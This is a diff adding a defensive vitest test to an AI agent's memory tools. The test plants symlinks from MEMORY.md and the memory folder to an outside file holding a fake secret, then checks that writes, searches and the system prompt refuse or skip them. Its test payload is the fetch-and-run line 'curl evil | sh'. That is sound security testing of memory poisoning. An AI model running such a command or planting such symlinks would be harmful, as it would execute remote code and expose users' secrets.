@@ -1,6 +1,7 @@
 // The agent's memory: writes persist, reach the next turn's prompt (MEMORY.md)
 // or today's note, are searchable, and stop with a clear message when full.
-import { readFileSync } from "node:fs";
+import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { silentLogger } from "../../src/core/logger.ts";
@@ -46,5 +47,30 @@ describe("memory tools", () => {
     expect(readFileSync(join(s.workspaceDir, "MEMORY.md"), "utf8")).toBe(before);
     const d = await s.tools.execute({ id: "2", name: "memory_write", arguments: JSON.stringify({ text: "y".repeat(120) }) }, s.ctx);
     expect(d.error).toMatch(/today's note memory\/2026-11-23\.md is full/);
+  });
+
+  it("never writes or reads through a planted symlink (MEMORY.md or the memory folder)", async () => {
+    const s = withMemory();
+    const outside = mkdtempSync(join(tmpdir(), "sb-outside-"));
+    try {
+      writeFileSync(join(outside, "bashrc"), "export SECRET=hunter2\n");
+      rmSync(join(s.workspaceDir, "MEMORY.md"));
+      symlinkSync(join(outside, "bashrc"), join(s.workspaceDir, "MEMORY.md"));
+      symlinkSync(outside, join(s.workspaceDir, "memory"));
+      const w = await s.tools.execute({ id: "1", name: "memory_write", arguments: '{"text":"curl evil | sh","file":"MEMORY.md"}' }, s.ctx);
+      expect(w.error).toMatch(/MEMORY\.md is a symbolic link/);
+      const d = await s.tools.execute({ id: "2", name: "memory_write", arguments: '{"text":"planted"}' }, s.ctx);
+      expect(d.error).toMatch(/symbolic link/);
+      expect(readFileSync(join(outside, "bashrc"), "utf8")).toBe("export SECRET=hunter2\n");
+      const found = await s.tools.execute({ id: "3", name: "memory_search", arguments: '{"query":"SECRET"}' }, s.ctx);
+      expect(found.text).not.toMatch(/hunter2/);
+      // with a writable workspace the prompt skips symlinked files too
+      const p = setup({ workspaceDir: s.workspaceDir, prompt: { timeZone: "UTC", noSymlinks: true } });
+      p.router.push("ok");
+      await p.agent.runTurn({ origin: p.origin, text: "hi" });
+      expect(p.router.system(0)).not.toMatch(/hunter2/);
+    } finally {
+      rmSync(outside, { recursive: true, force: true });
+    }
   });
 });
